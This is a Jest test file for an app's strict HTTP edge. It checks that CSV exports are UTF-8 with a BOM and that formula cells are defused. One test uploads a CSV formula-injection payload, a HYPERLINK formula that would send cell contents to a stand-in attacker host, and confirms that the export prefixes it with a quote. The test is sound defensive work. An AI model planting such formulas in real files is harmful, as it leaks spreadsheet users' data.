/**
 * The HTTP edge, strict: a JSON route takes JSON only (415 otherwise, nothing read as empty), a
 * NUL character is a 400 naming the field (a row error in a file), a line without a line break
 * stops an import with a clear 422 instead of stalling the server, and CSV exports are UTF-8 with
 * a BOM and defused formulas. Over HTTP to the real app, on the dialect of the jest project.
 */
import Papa from 'papaparse';
import { describeDb, startTestApp, USERS, type Client, type TestApp } from '../support/harness.js';
import { binary, send } from '../support/strict-http.js';

describeDb('strict HTTP: media types, NUL characters, long lines, CSV exports', () => {
  let t: TestApp;
  let arrow: Client;
  beforeAll(async () => {
    t = await startTestApp();
    arrow = await t.as(USERS.arrowhead);
  });
  afterAll(() => t.close());

  const upload = (path: string, body: string, type = 'text/csv') => send(t, arrow, 'post', path, type, body);

  describe('CSV exports', () => {
    it('are UTF-8 with a byte-order mark, and a cell starting with = comes back text, not a formula', async () => {
      const formula = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
      const csv = [
        'End Customer,Invoice No,Line,Invoice Date,Mfr Part,Qty',
        `Müller GmbH,STRICT-CSV-1,1,not-a-date,VS-MCU-32F4,1`,
        `"${formula.replace(/"/g, '""')}",STRICT-CSV-2,1,not-a-date,VS-MCU-32F4,1`,
      ].join('\r\n');
      const res = await upload('/api/imports', csv);
      expect(res.status).toBe(201);
      expect(res.body.rowsRejected).toBe(2);
      const report = await arrow
        .get(`/api/imports/${res.body.id}/errors.csv`)
        .buffer(true)
        .parse(binary as never);
      expect(report.status).toBe(200);
      expect(report.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
      const bytes = report.body as Buffer;
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8');
      expect(text).toContain('Müller GmbH');
      // Read back as a spreadsheet would: the BOM is not part of the first header cell.
      const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
      expect(parsed[0]).toEqual(['row', 'column', 'code', 'message', 'raw']);
      const raw = parsed.slice(1).map((r) => r[4]);
      expect(raw).toEqual([`Müller GmbH,STRICT-CSV-1,1,not-a-date,VS-MCU-32F4,1`, `'${formula},STRICT-CSV-2,1,not-a-date,VS-MCU-32F4,1`]);
    });
  });
});
